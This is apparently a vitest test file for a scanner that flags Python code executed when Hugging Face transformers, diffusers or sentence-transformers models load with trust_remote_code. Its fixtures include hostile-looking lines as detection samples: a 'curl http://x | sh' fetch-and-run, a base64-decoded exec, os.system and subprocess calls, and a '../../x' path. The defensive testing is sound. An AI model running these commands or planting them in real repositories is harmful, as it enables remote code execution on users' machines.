import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Artifact, Finding } from '../../core/finding.js';
import { scanPaths } from '../scan-paths.js';
import { type ReadScannedFile, withLayoutFindings } from './layout.js';

const artifact = (path: string, format = 'unknown'): Artifact => ({
  path,
  kind: 'other',
  format,
  size: 1,
  sha256: '',
});

/** A scan of in-memory files: formats given, everything else 'unknown'. */
function scanFolder(
  files: Record<string, string>,
  formats: Record<string, string> = {},
  findings: Finding[] = [],
) {
  const artifacts = Object.keys(files).map((p) =>
    artifact(p, formats[p] ?? (p.endsWith('.json') ? 'json' : 'unknown')),
  );
  const read: ReadScannedFile = (path, max) => {
    const text = files[path];
    return text === undefined ? undefined : new TextEncoder().encode(text).subarray(0, max);
  };
  return withLayoutFindings(findings, artifacts, read);
}

const summary = (found: readonly Finding[]) =>
  found.map((f) => `${f.ruleId}:${f.severity} ${f.location.path}`);

describe('layout findings', () => {
  it('points pickle checkpoints at the safetensors weights in the same folder only', () => {
    const found = withLayoutFindings(
      [],
      [
        artifact('m/model.safetensors', 'safetensors'),
        artifact('m/pytorch_model.bin', 'pytorch-zip'),
        artifact('m/tokenizer.json', 'json'),
        artifact('other/pytorch_model.bin', 'pytorch-zip'),
        artifact('m/sub/old.pt', 'pytorch-legacy'),
      ],
    );
    expect(summary(found)).toEqual(['HF-PICKLE-WEIGHTS:low m/pytorch_model.bin']);
    expect(found[0]?.message).toContain('m/model.safetensors');
  });
});

describe('Python code that trust_remote_code runs', () => {
  const config = JSON.stringify({
    model_type: 'my',
    auto_map: {
      AutoConfig: 'configuration_my.MyConfig',
      AutoModel: 'modeling_my.MyModel',
      AutoTokenizer: ['tokenization_my.MyTokenizer', 'other/repo--tokenization_fast.Fast'],
    },
  });
  const analyserFinding: Finding = {
    ruleId: 'HF-REMOTE-CODE',
    severity: 'high',
    title: 't',
    message: 'modules only',
    location: { path: 'repo/config.json' },
    evidence: '',
    remediation: '',
    references: [],
  };

  it('lists the referenced files, what they import relatively, and what is missing, replacing the analyser finding', () => {
    const found = scanFolder(
      {
        'repo/config.json': config,
        'repo/model.safetensors': '',
        'repo/configuration_my.py': 'from transformers import PretrainedConfig\n',
        'repo/modeling_my.py':
          'import torch\nfrom .layers import Block\nfrom .configuration_my import MyConfig\n',
        'repo/layers.py': 'import torch.nn as nn\n    from .helpers import f\n',
        'repo/helpers.py': 'def f(x):\n    return x.eval()\n',
      },
      { 'repo/model.safetensors': 'safetensors' },
      [analyserFinding],
    );
    const remote = found.filter((f) => f.ruleId === 'HF-REMOTE-CODE');
    expect(remote).toHaveLength(1);
    expect(remote[0]?.message).toContain(
      '4 Python file(s) of this folder: repo/configuration_my.py, repo/helpers.py, repo/layers.py, repo/modeling_my.py',
    );
    expect(remote[0]?.message).toContain(
      'missing here (downloaded from the hub at load time, unreviewed): repo/tokenization_my.py',
    );
    expect(remote[0]?.message).toContain('other/repo: tokenization_fast.py');
    // Every Python file is referenced and clean: nothing more to say about them.
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:high repo/config.json']);
  });

  it('reports Python files no configuration references at medium, and risky ones at high with the lines', () => {
    const found = scanFolder({
      'repo/config.json': config,
      'repo/modeling_my.py': 'import os\n# os.system("commented out")\nos.system("curl http://x | sh")\n',
      'repo/train.py': 'model.eval()\nx = re.compile("a")\ntorch.compile(model)\n',
      'repo/payload.py': 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
      'repo/tok.py': 'data = base64.b64decode(s)\n',
      'elsewhere/script.py': 'os.system("id")\n',
    });
    expect(summary(found)).toEqual([
      'HF-REMOTE-CODE:high repo/config.json',
      'HF-PYTHON-CODE:high repo/modeling_my.py',
      'HF-PYTHON-CODE:high repo/payload.py',
      'HF-PYTHON-CODE:medium repo/tok.py',
      'HF-PYTHON-CODE:medium repo/train.py',
    ]);
    const modeling = found.find((f) => f.location.path === 'repo/modeling_my.py');
    expect(modeling?.evidence).toBe('3: os.system("curl http://x | sh")');
    expect(modeling?.message).toContain('trust_remote_code=True runs it');
    const payload = found.find((f) => f.location.path === 'repo/payload.py');
    expect(payload?.message).toContain('decodes hidden data, evaluates code');
  });

  it('treats diffusers component folders as part of the pipeline, and ignores folders that are not model repositories', () => {
    const found = scanFolder({
      'pipe/model_index.json': '{"_class_name": "StableDiffusionPipeline"}',
      'pipe/unet/my_unet.py': 'import torch\n',
      'project/src/tool.py': 'import subprocess\n',
      'project/package.json': '{"name": "x"}',
    });
    expect(summary(found)).toEqual(['HF-PYTHON-CODE:medium pipe/unet/my_unet.py']);
  });

  it('is bounded on import cycles and reads nothing it was not given', () => {
    const found = scanFolder({
      'r/config.json': JSON.stringify({ auto_map: { AutoModel: 'a.A' } }),
      'r/a.py': 'from .b import x\n',
      'r/b.py': 'from .a import y\nimport .c\n',
    });
    expect(found[0]?.message).toContain('runs 2 Python file(s) of this folder: r/a.py, r/b.py');
    expect(found[0]?.message).toContain(
      'missing here (downloaded from the hub at load time, unreviewed): r/c.py',
    );
  });
});

describe('diffusers pipelines: custom components and pipelines', () => {
  const standard = JSON.stringify({
    _class_name: 'StableDiffusionPipeline',
    _diffusers_version: '0.30.0',
    feature_extractor: ['transformers', 'CLIPImageProcessor'],
    safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
    scheduler: ['diffusers', 'PNDMScheduler'],
    text_encoder: ['transformers', 'CLIPTextModel'],
    tokenizer: ['transformers', 'CLIPTokenizer'],
    unet: ['diffusers', 'UNet2DConditionModel'],
    vae: ['diffusers', 'AutoencoderKL'],
  });

  it('stays silent on a standard pipeline of diffusers and transformers components', () => {
    const found = scanFolder({
      'sd/model_index.json': standard,
      'sd/unet/config.json': '{"_class_name": "UNet2DConditionModel"}',
      'sd/unet/diffusion_pytorch_model.safetensors': '',
      'sd/scheduler/scheduler_config.json': '{"_class_name": "PNDMScheduler"}',
      'sd/text_encoder/config.json': '{"architectures": ["CLIPTextModel"]}',
    });
    expect(summary(found)).toEqual([]);
  });

  it('follows a custom component from <component>/<library>.py through its relative imports, and reports missing ones', () => {
    const index = JSON.parse(standard);
    index.unet = ['my_unet', 'MyUNet'];
    index.vae = ['my_vae', 'MyVAE'];
    const found = scanFolder({
      'sd/model_index.json': JSON.stringify(index),
      'sd/unet/my_unet.py': 'import torch\nfrom .blocks import Block\n',
      'sd/unet/blocks.py': 'import torch.nn as nn\n',
      'sd/unet/config.json': '{}',
    });
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:high sd/model_index.json']);
    const message = found[0]?.message ?? '';
    expect(message).toContain('runs 2 Python file(s) of this folder: sd/unet/blocks.py, sd/unet/my_unet.py');
    expect(message).toContain(
      'diffusers refuses them on the Hub and, from a local folder, imports an installed module of that name instead: sd/vae/my_vae.py',
    );
    expect(found[0]?.evidence).toContain('unet: ["my_unet","MyUNet"]');
  });

  it('reports a component file that is only missing at medium: nothing of the folder runs and nothing is downloaded', () => {
    const found = scanFolder({ 'p/model_index.json': JSON.stringify({ unet: ['my_unet', 'MyUNet'] }) });
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:medium p/model_index.json']);
  });

  it('reports custom pipelines: _class_name [module, Class], a root pipeline.py, and community pipelines', () => {
    const found = scanFolder({
      'p/model_index.json': JSON.stringify({
        _class_name: ['my_pipeline', 'MyPipeline'],
        unet: ['diffusers', 'UNet2DConditionModel'],
      }),
      'p/my_pipeline.py': 'from .utils import helper\n',
      'p/utils.py': 'import os\nos.system("id")\n',
      'p/pipeline.py': 'class P: pass\n',
    });
    expect(summary(found)).toEqual([
      'HF-REMOTE-CODE:high p/model_index.json',
      'HF-PYTHON-CODE:high p/utils.py',
    ]);
    expect(found[0]?.message).toContain(
      'runs 3 Python file(s) of this folder: p/my_pipeline.py, p/pipeline.py, p/utils.py',
    );
    expect(found[0]?.message).toContain(
      'pipeline.py is the custom pipeline diffusers runs when this repository is passed as custom_pipeline',
    );

    const community = scanFolder({
      'c/model_index.json': JSON.stringify({ _class_name: ['lpw_stable_diffusion', 'LPWPipeline'] }),
    });
    expect(summary(community)).toEqual(['HF-REMOTE-CODE:medium c/model_index.json']);
    expect(community[0]?.message).toContain('diffusers/community-pipelines-mirror');
  });

  it('reports component names that leave the folder at high', () => {
    const found = scanFolder({ 'p/model_index.json': JSON.stringify({ '../../x': ['evil', 'E'] }) });
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:high p/model_index.json']);
    expect(found[0]?.message).toContain('Paths that leave the repository folder');
  });
});

describe('sentence-transformers modules and custom generation code', () => {
  const standardModules = JSON.stringify([
    { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
    { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
  ]);

  it('stays silent on a standard sentence-transformers model', () => {
    const found = scanFolder({
      'st/modules.json': standardModules,
      'st/config.json': '{"model_type": "bert"}',
      'st/1_Pooling/config.json': '{"pooling_mode_mean_tokens": true}',
      'st/config_sentence_transformers.json': '{"similarity_fn_name": "cosine"}',
    });
    expect(summary(found)).toEqual([]);
  });

  it('lists custom modules of modules.json, noting that a local folder needs no trust_remote_code', () => {
    const modules = JSON.parse(standardModules);
    modules.push({ idx: 2, name: '2', path: '2_Custom', type: 'custom_st.CustomModule' });
    const found = scanFolder({
      'st/modules.json': JSON.stringify(modules),
      'st/custom_st.py': 'from .layers import L\n',
      'st/layers.py': 'x = 1\n',
    });
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:high st/modules.json']);
    expect(found[0]?.message).toContain(
      'runs 2 Python file(s) of this folder: st/custom_st.py, st/layers.py',
    );
    expect(found[0]?.message).toContain('from a local folder even without trust_remote_code');
  });

  it('reports custom_generate/generate.py and what it imports, located at the code', () => {
    const found = scanFolder({
      'm/config.json': '{"model_type": "llama"}',
      'm/custom_generate/generate.py': 'from .beam_search import search\n',
      'm/custom_generate/beam_search.py': 'def search(): pass\n',
      'm/custom_generate/extra.py': 'x = 1\n',
    });
    expect(summary(found)).toEqual([
      'HF-REMOTE-CODE:high m/custom_generate/generate.py',
      'HF-PYTHON-CODE:medium m/custom_generate/extra.py',
    ]);
    expect(found[0]?.message).toContain(
      'runs 2 Python file(s) of this folder: m/custom_generate/beam_search.py, m/custom_generate/generate.py',
    );
    expect(found[0]?.message).toContain('GenerationMixin.load_custom_generate');
  });
});

describe('auto_map in every configuration of a folder', () => {
  it('reports tokenizer and processor auto_map, and code from another repository that is not on disk', () => {
    const found = scanFolder({
      'm/config.json': '{"model_type": "bert"}',
      'm/tokenizer_config.json': JSON.stringify({ auto_map: ['tokenization_x.XTokenizer', null] }),
      'm/tokenization_x.py': 'class XTokenizer: pass\n',
      'm/preprocessor_config.json': JSON.stringify({
        auto_map: { AutoImageProcessor: 'other-user/other-repo--image_processing_x.P' },
      }),
    });
    expect(summary(found)).toEqual([
      'HF-REMOTE-CODE:high m/preprocessor_config.json',
      'HF-REMOTE-CODE:high m/tokenizer_config.json',
    ]);
    expect(found[0]?.message).toContain(
      'Loading this model runs Python code none of which is in this folder.',
    );
    expect(found[0]?.message).toContain('other-user/other-repo: image_processing_x.py');
    expect(found[1]?.message).toContain('runs 1 Python file(s) of this folder: m/tokenization_x.py');
  });
});

describe('scanning folders on disk', () => {
  const root = mkdtempSync(join(tmpdir(), 'pedigree-hf-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const write = (files: Record<string, string>) => {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), text);
    }
  };
  const scanDir = async (dir: string) => {
    const report = await scanPaths([join(root, dir)], { tool: { name: 'pedigree', version: 'test' } });
    return report.findings
      .filter((f) => f.ruleId.startsWith('HF-'))
      .map((f) => `${f.ruleId}:${f.severity} ${f.location.path}`)
      .sort();
  };

  it('lists a diffusers custom component and custom pipeline, and leaves a standard pipeline silent', async () => {
    write({
      'custom/model_index.json': JSON.stringify({
        _class_name: ['my_pipeline', 'MyPipeline'],
        scheduler: ['diffusers', 'DDIMScheduler'],
        unet: ['my_unet', 'MyUNet'],
      }),
      'custom/my_pipeline.py': 'class MyPipeline: pass\n',
      'custom/unet/my_unet.py': 'from .blocks import B\n',
      'custom/unet/blocks.py': 'import subprocess\nsubprocess.run(["id"])\n',
      'custom/unet/config.json': '{"_class_name": "MyUNet"}',
      'standard/model_index.json': JSON.stringify({
        _class_name: 'StableDiffusionPipeline',
        safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
        text_encoder: ['transformers', 'CLIPTextModel'],
        unet: ['diffusers', 'UNet2DConditionModel'],
      }),
      'standard/unet/config.json': '{"_class_name": "UNet2DConditionModel"}',
    });
    expect(await scanDir('custom')).toEqual([
      'HF-PYTHON-CODE:high unet/blocks.py',
      'HF-REMOTE-CODE:high model_index.json',
    ]);
    expect(await scanDir('standard')).toEqual([]);
  });

  it('lists sentence-transformers custom modules, and leaves a standard model silent', async () => {
    write({
      'st-custom/modules.json': JSON.stringify([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Custom', type: 'custom_st.CustomPooling' },
      ]),
      'st-custom/custom_st.py': 'class CustomPooling: pass\n',
      'st-custom/config.json': '{"model_type": "bert"}',
      'st-standard/modules.json': JSON.stringify([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ]),
      'st-standard/1_Pooling/config.json': '{"pooling_mode_mean_tokens": true}',
      'st-standard/config.json': '{"model_type": "bert"}',
    });
    expect(await scanDir('st-custom')).toEqual(['HF-REMOTE-CODE:high modules.json']);
    expect(await scanDir('st-standard')).toEqual([]);
  });
});
